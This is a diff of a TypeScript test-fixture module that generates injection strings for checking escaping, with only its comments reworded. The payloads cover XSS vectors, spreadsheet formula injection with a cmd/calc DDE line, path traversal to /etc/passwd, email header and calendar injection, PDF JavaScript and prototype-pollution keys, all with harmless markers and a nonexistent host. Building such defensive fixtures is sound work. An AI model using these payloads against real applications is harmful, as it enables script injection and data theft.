@@ -1,11 +1,11 @@
 /**
- * Texts that run, call out or change what stands around them where text is taken for anything else.
- * `ranHere(n)` is a function no page has: who calls it is noticed. `w.invalid` is a host nobody has:
- * who asks it is noticed. Every text ends with its mark.
+ * Injection texts: each runs, calls out or breaks its context where a text is not escaped.
+ * `ranHere(n)` is an undefined function, so a call is noticed. `w.invalid` is a missing host, so a
+ * request is noticed. Each text ends with its marker.
  */
 type Write = (n: number) => string
 
-/** One line, nothing that turns direction: a name may be any of them. */
+/** On one line, without direction controls: allowed in names. */
 const inLine: readonly Write[] = [
   // Scripts.
   (n) => `<script>ranHere(${n})</script>`,
@@ -13,7 +13,7 @@ const inLine: readonly Write[] = [
   (n) => `</script><script>ranHere(${n})//`,
   (n) => `--><script>ranHere(${n})</script>`,
   (n) => `]]><script>ranHere(${n})</script>`,
-  // What runs when it is drawn, looked at or pressed.
+  // Event handlers.
   (n) => `<img src=//w.invalid/${n} onerror=ranHere(${n})>`,
   (n) => `"><img src=x onerror=ranHere(${n})>`,
   (n) => `<body onload=ranHere(${n})>`,
@@ -21,14 +21,14 @@ const inLine: readonly Write[] = [
   (n) => `<video><source onerror=ranHere(${n})>`,
   (n) => `<input autofocus onfocus=ranHere(${n})>`,
   (n) => `<style onload=ranHere(${n})>`,
-  // SVG, MathML, and what changes its meaning when it is written again.
+  // SVG, MathML, and mutation XSS.
   (n) => `<svg onload=ranHere(${n})>`,
   (n) => `<svg><animate onbegin=ranHere(${n}) attributeName=x dur=1s>`,
   (n) => `</svg><script>ranHere(${n})</script>`,
   (n) =>
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=ranHere(${n})&gt;">`,
   (n) => `<noscript><p title="</noscript><img src=x onerror=ranHere(${n})>">`,
-  // Addresses.
+  // URLs.
   (n) => `javascript:ranHere(${n})`,
   (n) => `data:text/html,<script>ranHere(${n})</script>`,
   (n) => `<a href="javascript:ranHere(${n})">ici</a>`,
@@ -40,7 +40,7 @@ const inLine: readonly Write[] = [
   (n) => `<base href=//w.invalid/${n}/>`,
   (n) => `<form action=//w.invalid/${n}><button>Envoyer`,
   (n) => `[ici](javascript:ranHere(${n})) ![](http://w.invalid/${n})`,
-  // Out of an attribute, a title, a style, a field.
+  // Escapes from an attribute, a title, a style, a field.
   (n) => `" onmouseover="ranHere(${n})" x="`,
   (n) => `' autofocus onfocus='ranHere(${n})`,
   (n) => `\` onmouseover=ranHere(${n}) \``,
@@ -48,7 +48,7 @@ const inLine: readonly Write[] = [
   (n) => `</style><style>@import"//w.invalid/${n}"`,
   (n) => `</textarea><img src=x onerror=ranHere(${n})>`,
   (n) => `x;background:url(//w.invalid/${n})`,
-  // Written so that something turns it back.
+  // Double encodings.
   (n) => `&lt;script&gt;ranHere(${n})&lt;/script&gt;`,
   (n) => `&#60;img src=x onerror=ranHere(${n})&#62;`,
   (n) => `+ADw-script+AD4-ranHere(${n})+ADw-/script+AD4-`,
@@ -56,7 +56,7 @@ const inLine: readonly Write[] = [
   (n) => `＜script＞ranHere(${n})＜/script＞`,
   (n) => `\\u003cscript\\u003eranHere(${n})`,
   (n) => `<scr\u200bipt>ranHere(${n})</scr\u200bipt>`,
-  // Formulas of spreadsheets.
+  // Spreadsheet formulas.
   (n) => `=HYPERLINK("http://w.invalid/${n}")`,
   (n) => `+1+cmd|'/C calc'!A${n}`,
   (n) => `-2+${n}`,
@@ -71,15 +71,15 @@ const inLine: readonly Write[] = [
   () => '{organisation} {n} {n, plural, other {#}}',
   () => '%s %n %d %1$s $& $1 $` \\1',
   (n) => `../../../../etc/passwd?${n}`,
-  // Documents that are programs.
+  // Documents with scripts.
   (n) => `) /AA << /O << /S /JavaScript /JS (app.alert(${n})) >> >> (`,
-  // Names every object has.
+  // Properties of every object.
   () => '__proto__',
   () => 'constructor',
   () => 'toString',
 ]
 
-/** What only text of several lines may hold, or what turns the direction. */
+/** With line breaks, or direction controls. */
 const inLines: readonly Write[] = [
   (n) => `ici\r\nBcc: ailleurs@w.invalid\r\n\r\n<script>ranHere(${n})</script>`,
   (n) => `ici\nEND:VEVENT\nBEGIN:VALARM\nATTACH:http://w.invalid/${n}`,
@@ -91,20 +91,20 @@ const inLines: readonly Write[] = [
   () => 'mot'.repeat(60),
 ]
 
-/** By its number, a text as it is written. */
+/** The texts by number. */
 export const hostileTexts: readonly string[] = [...inLine, ...inLines].map(
   (write, n) => `${write(n)} ${markOf(n)}`,
 )
 
-/** By which a text is known wherever it stands. */
+/** Returns the marker of a text. */
 function markOf(n: number): string {
   return `⟦${n}⟧`
 }
 
 /**
- * Gives one text after the other.
- * @param first number of the text to begin with
- * @returns the next that is no longer than `most` characters, of several lines where they are taken
+ * Returns a generator of the texts.
+ * @param first number of the first
+ * @returns the next of at most `most` characters, with line breaks where allowed
  */
 export function textsFrom(first: number) {
   let at = first
